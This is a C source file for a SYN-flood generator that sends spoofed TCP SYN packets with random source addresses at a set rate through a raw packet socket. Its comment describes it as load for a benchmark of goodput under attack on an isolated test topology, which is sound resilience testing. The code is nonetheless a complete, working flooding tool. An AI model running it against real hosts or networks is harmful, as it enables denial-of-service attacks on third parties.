// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * synflood: spoofed TCP SYNs at a set rate (or as fast as one core can), for
 * bench/attack_goodput.sh. Frames are built ahead, one per source address drawn from a
 * network (a pool of distinct sources, ports and ISNs), and sent from an AF_PACKET socket in
 * batches with sendmmsg; the pacing sleeps between batches. Runs only on an interface of the
 * benchmark's own topology. Prints one JSON object: {"sent", "seconds", "rate"}.
 *
 * Usage: synflood --iface IF --dmac MAC --smac MAC --dst A.B.C.D --dport P --net A.B.C.D/N
 *                 [--rate PPS] [--seconds S]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define POOL 4096
#define BATCH 64
#define FRAME 58 /* Ethernet 14 + IPv4 20 + TCP 24 (MSS option) */

static uint8_t frames[POOL][FRAME];

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint16_t csum(const void *p, size_t n, uint32_t sum)
{
	const uint8_t *b = p;
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		sum += (uint32_t)b[n - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static int parse_mac(const char *s, uint8_t *m)
{
	return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &m[0], &m[1], &m[2], &m[3], &m[4],
		      &m[5]) == 6 ? 0 : -1;
}

static void build(uint8_t *f, const uint8_t *dmac, const uint8_t *smac, uint32_t src,
		  uint32_t dst, uint16_t sport, uint16_t dport, uint32_t isn)
{
	struct iphdr *ip = (struct iphdr *)(f + 14);
	uint8_t *th = f + 34, ph[12];
	uint32_t s;

	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	f[12] = 0x08;
	f[13] = 0x00;
	memset(ip, 0, 20);
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(44);
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = src;
	ip->daddr = dst;
	ip->check = htons(csum(ip, 20, 0));
	memset(th, 0, 24);
	th[0] = sport >> 8;
	th[1] = sport & 0xff;
	th[2] = dport >> 8;
	th[3] = dport & 0xff;
	s = htonl(isn);
	memcpy(th + 4, &s, 4);
	th[12] = 6 << 4;  /* doff 6 */
	th[13] = 0x02;    /* SYN */
	th[14] = 0xfa;
	th[15] = 0xf0;
	th[20] = 2;       /* MSS 1460 */
	th[21] = 4;
	th[22] = 0x05;
	th[23] = 0xb4;
	memcpy(ph, &ip->saddr, 4);
	memcpy(ph + 4, &ip->daddr, 4);
	ph[8] = 0;
	ph[9] = IPPROTO_TCP;
	ph[10] = 0;
	ph[11] = 24;
	{
		uint32_t sum = 0;
		size_t i;

		for (i = 0; i < 12; i += 2)
			sum += (uint32_t)(ph[i] << 8 | ph[i + 1]);
		s = csum(th, 24, sum);
	}
	th[16] = s >> 8;
	th[17] = s & 0xff;
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "iface", required_argument, NULL, 'i' }, { "dmac", required_argument, NULL, 'd' },
		{ "smac", required_argument, NULL, 'm' }, { "dst", required_argument, NULL, 'D' },
		{ "dport", required_argument, NULL, 'p' }, { "net", required_argument, NULL, 'n' },
		{ "rate", required_argument, NULL, 'r' }, { "seconds", required_argument, NULL, 's' },
		{ 0 }
	};
	const char *iface = NULL, *net = NULL;
	uint8_t dmac[6] = { 0 }, smac[6] = { 0x02, 0, 0, 0, 0, 0x99 };
	struct in_addr dst = { 0 }, base;
	struct sockaddr_ll sll = { 0 };
	struct mmsghdr msg[BATCH];
	struct iovec iov[BATCH];
	double rate = 0, secs = 5, t0, t;
	int opt, fd, plen = 24, i;
	uint16_t dport = 80;
	long sent = 0;
	uint32_t mask, rnd[3];
	char *slash;

	while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (opt) {
		case 'i': iface = optarg; break;
		case 'd': if (parse_mac(optarg, dmac)) return 2; break;
		case 'm': if (parse_mac(optarg, smac)) return 2; break;
		case 'D': if (inet_pton(AF_INET, optarg, &dst) != 1) return 2; break;
		case 'p': dport = (uint16_t)atoi(optarg); break;
		case 'n': net = optarg; break;
		case 'r': rate = atof(optarg); break;
		case 's': secs = atof(optarg); break;
		default: return 2;
		}
	}
	if (!iface || !net || !dst.s_addr) {
		fprintf(stderr, "usage: synflood --iface IF --dmac MAC --dst ADDR --net A.B.C.D/N "
			"[--dport P] [--rate PPS] [--seconds S]\n");
		return 2;
	}
	slash = strchr(net, '/');
	if (slash) {
		*slash = '\0';
		plen = atoi(slash + 1);
	}
	if (inet_pton(AF_INET, net, &base) != 1 || plen < 8 || plen > 32)
		return 2;
	mask = plen == 32 ? 0 : (0xffffffffu >> plen);
	for (i = 0; i < POOL; i++) {
		uint32_t host;

		if (getrandom(rnd, sizeof(rnd), 0) != sizeof(rnd))
			return 1;
		host = (ntohl(base.s_addr) & ~mask) | (rnd[0] & mask);
		build(frames[i], dmac, smac, htonl(host), dst.s_addr,
		      (uint16_t)(1024 + rnd[1] % 64000), dport, rnd[2]);
	}
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0) {
		perror("synflood: socket");
		return 1;
	}
	sll.sll_family = AF_PACKET;
	sll.sll_ifindex = (int)if_nametoindex(iface);
	sll.sll_halen = 6;
	memcpy(sll.sll_addr, dmac, 6);
	if (!sll.sll_ifindex) {
		fprintf(stderr, "synflood: no interface %s\n", iface);
		return 1;
	}
	memset(msg, 0, sizeof(msg));
	for (i = 0; i < BATCH; i++) {
		msg[i].msg_hdr.msg_name = &sll;
		msg[i].msg_hdr.msg_namelen = sizeof(sll);
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
		iov[i].iov_len = FRAME;
	}
	t0 = now_s();
	while ((t = now_s() - t0) < secs) {
		int n, k;

		if (rate > 0 && (double)sent > rate * t) {
			struct timespec ts = { 0, 200000 };

			nanosleep(&ts, NULL);
			continue;
		}
		for (k = 0; k < BATCH; k++)
			iov[k].iov_base = frames[(sent + k) % POOL];
		n = sendmmsg(fd, msg, BATCH, 0);
		if (n < 0) {
			if (errno == ENOBUFS || errno == EAGAIN)
				continue;
			perror("synflood: sendmmsg");
			return 1;
		}
		sent += n;
	}
	t = now_s() - t0;
	printf("{\"sent\": %ld, \"seconds\": %.3f, \"rate\": %.0f}\n", sent, t, (double)sent / t);
	close(fd);
	return 0;
}
